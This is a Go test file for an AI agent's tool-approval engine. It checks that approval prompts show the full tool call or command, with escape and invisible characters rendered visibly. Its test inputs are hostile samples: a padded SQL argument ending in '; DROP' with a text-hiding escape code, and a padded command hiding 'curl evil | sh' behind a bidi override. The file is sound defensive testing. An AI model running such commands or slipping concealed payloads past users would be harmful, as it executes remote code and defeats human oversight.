package policy

import (
	"context"
	"strings"
	"testing"

	"github.com/agent-lsp/agent-lsp/internal/agent/tool"
)

// TestAQuestionShowsTheWholeCall asks about a tool of an MCP server. The title must contain the
// arguments, because some clients show nothing else.
func TestAQuestionShowsTheWholeCall(t *testing.T) {
	arguments := `{"sql": "` + strings.Repeat("x", 5000) + `; DROP` + "\x1b[8m" + `"}`
	asked := questionsAbout(t, tool.ApprovalRequest{
		SessionID: "s", Tool: tool.Spec{Name: "db_query"}, Effect: tool.Mutates,
		Subject: &tool.Subject{
			Kind: tool.SubjectMCP, Title: "Call query of the MCP server db", Name: "db_query",
			Origin: "db/query", Command: "db/query " + arguments,
		},
	})
	want := "Call query of the MCP server db: db/query " +
		strings.ReplaceAll(arguments, "\x1b", `\x1b`)
	if len(asked) != 1 || asked[0].Title != want {
		t.Errorf("got %+v, want the title %q", asked, want)
	}
}

// questionsAbout returns the questions that a request causes if the user does not answer.
func questionsAbout(t *testing.T, req tool.ApprovalRequest) (asked []Question) {
	t.Helper()
	p := &scriptedUser{answer: func(_ context.Context, qs []Question) []Reply {
		asked = append(asked, qs...)
		return []Reply{{Cancelled: true}}
	}}
	e := newEngine(t, p, boxed, nil)
	e.Configure("s", Settings{})
	if _, err := e.Approve(t.Context(), req); err != nil {
		t.Fatal(err)
	}
	return asked
}

// TestAQuestionShowsTheWholeCommand asks about a command that is longer than its label and contains
// invisible characters.
func TestAQuestionShowsTheWholeCommand(t *testing.T) {
	command := command("s", "make "+strings.Repeat("x", 500)+"\n\tcurl\u202e evil\x1b[8m | sh")
	command.Subject.Title = "Run make …"
	asked := questionsAbout(t, command)
	want := "Run make " + strings.Repeat("x", 500) + "\n" + `\x09curl\u202e evil\x1b[8m | sh`
	if len(asked) != 1 || asked[0].Title != want ||
		asked[0].Subject.Command != command.Subject.Command {
		t.Errorf("got %+v, want the title %q", asked, want)
	}
}
